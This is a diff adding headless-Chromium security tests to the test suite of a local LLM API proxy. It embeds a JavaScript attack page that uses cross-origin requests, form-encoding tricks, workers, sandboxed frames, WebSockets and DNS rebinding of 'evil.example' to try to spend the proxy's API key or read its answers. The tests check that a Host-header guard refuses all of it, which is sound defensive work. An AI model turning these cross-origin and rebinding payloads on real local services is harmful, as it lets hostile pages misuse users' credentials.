@@ -8194,6 +8194,255 @@ def test_e2e_typescript_sdk(tmp_path):
         assert "acme/one" in found["models"] and found["error"] == "RateLimitError"
 
 
+# ---- a web page
+# A page in the user's browser, from any other origin, tries all that a page can to
+# spend the key or to read what the proxy says.  `make browser` runs it.
+
+CHROMIUM = os.environ.get("NIMPROXY_CHROMIUM", "")
+BROWSER = pytest.mark.skipif(not CHROMIUM, reason="make browser runs it")
+CHROMIUM_COMMAND = [
+    CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
+    "--no-first-run", "--disable-background-networking", "--disable-component-update",
+    "--disable-sync", "--host-resolver-rules=MAP evil.example 127.0.0.1"]
+PAGES = [   # where the page comes from; the last is rebound to the proxy's address
+    ("another port", "http://127.0.0.1:{other}/"),
+    ("another name", "http://localhost:{other}/"),
+    ("another site", "http://evil.example:{other}/"),
+    ("a rebound name", "http://evil.example:{port}/"),
+]
+ATTACK = """<!doctype html><title>Kittens</title><body><script>
+const HOME = %(home)s, HOSTS = ["127.0.0.1", "localhost", "evil.example"];
+const TYPES = ["text/plain", "application/json", "application/x-www-form-urlencoded"];
+const read = {}, running = [];
+
+function attempt(name, act) {               // act(): a promise of what it could read
+  const late = new Promise(done => setTimeout(done, 10000, ""));
+  const tried = Promise.race([late, new Promise(done => done(act()))]);
+  running.push(tried.then(text => read[name] = text, () => read[name] = ""));
+}
+const ask = name => JSON.stringify({model: "m", max_tokens: 9, more: "",
+                                    messages: [{role: "user", content: name}]});
+const text = answer => answer.text();
+
+function load(kind, source, prepare = () => {}) {
+  return new Promise(done => {
+    const element = document.createElement(kind);
+    element.onload = () => done(element.contentDocument?.body.textContent ?? "");
+    element.onerror = () => done("");
+    element[{link: "href", object: "data"}[kind] ?? "src"] = source;
+    prepare(element);
+    document.body.append(element);
+  });
+}
+function form(url, name) {
+  const body = ask(name), cut = body.indexOf('""') + 1;     // more: "=\\r\\n"
+  const held = document.createElement("form"), field = document.createElement("input");
+  Object.assign(held, {method: "POST", action: url, enctype: "text/plain",
+                       target: name});
+  Object.assign(field, {name: body.slice(0, cut), value: body.slice(cut)});
+  held.append(field);
+  document.body.append(held);
+  return load("iframe", "about:blank", frame => {
+    frame.name = name;
+    const filled = frame.onload;
+    frame.onload = () => { frame.onload = filled; held.submit(); };
+  });
+}
+function request(method, url, type, body) {
+  return new Promise((done, failed) => {
+    const request = new XMLHttpRequest();
+    request.open(method, url);
+    if (type) request.setRequestHeader("Content-Type", type);
+    request.onload = () => done(request.responseText);
+    request.onerror = failed;
+    request.send(body);
+  });
+}
+function listen(listener) {
+  return new Promise(done => {
+    listener.onopen = () => done("open");
+    listener.onmessage = event => done(event.data);
+    listener.onerror = () => { listener.close(); done(""); };
+  });
+}
+function fetched(url, name) {               // source text that asks, in no page at all
+  const how = JSON.stringify({method: "POST", mode: "no-cors", body: ask(name)});
+  return `fetch(${JSON.stringify(url)}, ${how})`;
+}
+function attack(host) {
+  const base = `http://${host}:%(port)d`, url = base + "/v1/messages";
+  const each = (what, act) => attempt(`${what} ${host}`, () => act(`${what} ${host}`));
+  for (const mode of ["cors", "no-cors", "same-origin"])
+    for (const type of TYPES)
+      each(`fetch ${mode} ${type}`, name => fetch(url, {
+        method: "POST", mode, headers: {"Content-Type": type}, body: ask(name),
+      }).then(text));
+  each("fetch keepalive", name => fetch(url, {
+    method: "POST", mode: "no-cors", keepalive: true, body: ask(name)}).then(text));
+  each("fetch with a key", name => fetch(url, {
+    method: "POST", headers: {"x-api-key": "k"}, body: ask(name)}).then(text));
+  each("fetch redirected", name => fetch(`${HOME}/redirect?${url}`, {
+    method: "POST", mode: "no-cors", body: ask(name)}).then(text));
+  for (const type of TYPES) {
+    each(`XMLHttpRequest ${type}`, name => request("POST", url, type, ask(name)));
+    each(`sendBeacon ${type}`, name =>
+      navigator.sendBeacon(url, new Blob([ask(name)], {type})) && "");
+  }
+  each("form", name => form(url, name));
+  each("worker", name => new Worker(URL.createObjectURL(new Blob(
+    [fetched(url, name)]))) && "");
+  each("sandbox", name => load("iframe", "about:blank", frame => {
+    frame.sandbox = "allow-scripts";
+    frame.srcdoc = `<script>${fetched(url, name)}</` + "script>";
+  }));
+  for (const path of ["/", "/health", "/status", "/v1/models", "/v1/models/m"]) {
+    for (const mode of ["cors", "no-cors"])
+      each(`read ${mode} ${path}`, () => fetch(base + path, {mode}).then(text));
+    each(`read XMLHttpRequest ${path}`, () => request("GET", base + path));
+    each(`EventSource ${path}`, () => listen(new EventSource(base + path)));
+    for (const kind of ["img", "script", "iframe", "object"])
+      each(`${kind} ${path}`, () => load(kind, base + path));
+    each(`link ${path}`, () => load("link", base + path,
+                                    link => link.rel = "stylesheet"));
+  }
+  for (const path of ["/", "/status", "/v1/messages"])
+    each(`WebSocket ${path}`, () => listen(new WebSocket(
+      base.replace("http", "ws") + path)));
+}
+(async () => {
+  await fetch(HOME + "/ready", {mode: "no-cors"});
+  HOSTS.forEach(attack);
+  await Promise.all(running);
+  await fetch(HOME + "/report", {method: "POST", mode: "no-cors",
+                                 body: JSON.stringify(read)});
+})();
+</script>
+"""
+
+
+class Lair:
+    """A server with the page that attacks `port`; its page reports to `home`'s."""
+
+    def __init__(self, port, own_port=0, home=None):
+        self.waiting, self.ready = threading.Event(), threading.Event()
+        self.reported, self.read = threading.Event(), None
+        self.server = ThreadingHTTPServer(("127.0.0.1", own_port), self.handler())
+        self.server.daemon_threads = True
+        self.port = self.server.server_address[1]
+        url = json.dumps("http://127.0.0.1:%d" % (home or self).port)
+        self.page = (ATTACK % {"home": url, "port": port}).encode()
+
+    def __enter__(self):
+        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,))
+        self.thread.start()
+        return self
+
+    def __exit__(self, *_):
+        self.ready.set()
+        self.server.shutdown()
+        self.thread.join()
+        self.server.server_close()
+
+    def handler(lair):
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *_):
+                pass
+
+            def do_GET(self):
+                if self.path == "/ready":
+                    lair.waiting.set()
+                    lair.ready.wait(30)
+                self.say(200, lair.page)
+
+            def do_POST(self):
+                raw = self.rfile.read(int(self.headers["Content-Length"]))
+                if self.path == "/report":
+                    lair.read = json.loads(raw)
+                    lair.reported.set()
+                self.say(307, b"", ("Location", self.path.partition("?")[2] or "/"))
+
+            def say(self, status, body, *fields):
+                self.send_response(status)
+                for name, value in (("Content-Type", "text/html"), *fields):
+                    self.send_header(name, value)
+                self.end_headers()
+                self.wfile.write(body)
+        return Handler
+
+
+@contextlib.contextmanager
+def browsing(folder, url, *flags):
+    """A running Chromium with a profile of its own, at a page."""
+    command = [*CHROMIUM_COMMAND, "--user-data-dir=%s" % folder, *flags, url]
+    environ = {"PATH": os.environ["PATH"], "HOME": str(folder)}
+    with subprocess.Popen(command, env=environ, start_new_session=True,
+                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                          stderr=subprocess.DEVNULL) as chromium:
+        try:
+            yield chromium
+        finally:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(chromium.pid, signal.SIGKILL)
+
+
+@contextlib.contextmanager
+def visited(folder, place, nim):
+    """A proxy, once the page of a place has tried all: (texts it read, client).
+
+    The rebound name leads to the page's server first, and then to the proxy.
+    """
+    with socket.create_server(("127.0.0.1", 0)) as sock:
+        port = sock.getsockname()[1]
+    with contextlib.ExitStack() as stack:
+        home = stack.enter_context(Lair(port))
+        page = place.format(other=home.port, port=port)
+        with Lair(port, port, home):
+            stack.enter_context(browsing(folder, page))
+            assert home.waiting.wait(RUN_SECONDS)
+        client = stack.enter_context(proxy_for(nim, port=port))
+        home.ready.set()
+        assert home.reported.wait(RUN_SECONDS)
+        yield home.read, client
+
+
+@BROWSER
+@pytest.mark.parametrize("place", named(PAGES))
+def test_browser_no_page_gets_at_the_proxy(tmp_path, place):
+    with FakeNim(completes("ok")) as nim, visited(tmp_path, place, nim) as (read, it):
+        assert not nim.requests and len(read) > 200
+        refusals = {text for text in read.values() if text}
+        assert all("expected a Host header" in text for text in refusals), refusals
+        assert bool(refusals) == ("{port}" in place)    # of its own origin, harmless
+        assert it.request("GET", "/status")[2]["counts"]["errors_403"] > 100
+        for host in ("127.0.0.1", "localhost"):         # the user's own address line
+            url = "http://%s:%s/" % (host, it.address[1])
+            with browsing(tmp_path / host, url, "--dump-dom") as chromium:
+                assert b'"service":"nimproxy"' in chromium.communicate()[0]
+        name = "what the page asked, without a browser"
+        body = {**ASK, "messages": [{"role": "user", "content": name}]}
+        kind = {"Content-Type": "text/plain"}
+        assert it.request("POST", "/v1/messages", body, kind)[0] == 200
+        assert [chat["messages"][0]["content"] for chat in nim.asked] == [name]
+
+
+BLIND = {"fetch no-cors text/plain", "fetch cors text/plain", "fetch keepalive", "form",
+         "fetch redirected", "XMLHttpRequest text/plain", "sendBeacon text/plain",
+         "sandbox", "worker"}           # no page can read their answers, but they ask
+
+
+@BROWSER
+@pytest.mark.parametrize("place", named(PAGES))
+def test_browser_the_page_gets_at_a_proxy_without_guard(tmp_path, place, monkeypatch):
+    monkeypatch.setattr(np.Proxy, "admit", lambda *_: None)
+    with FakeNim(completes("ok")) as nim, visited(tmp_path, place, nim) as (read, _):
+        asked = {chat["messages"][0]["content"] for chat in nim.asked}
+        assert {name.rpartition(" ")[0] for name in asked} >= BLIND
+        own = {name for name, text in read.items() if text}
+        rebound = {"fetch cors application/json evil.example", "form evil.example",
+                   "read cors /status evil.example", "iframe /v1/models evil.example"}
+        assert own >= rebound if "{port}" in place else not own
+
+
 # ---- End to end: a real engine -----------------------------------------------
 # llama.cpp's server with a model of 135 million parameters, both from PyPI, built
 # by `make engine`.  So small a model calls a tool only after a few examples, which
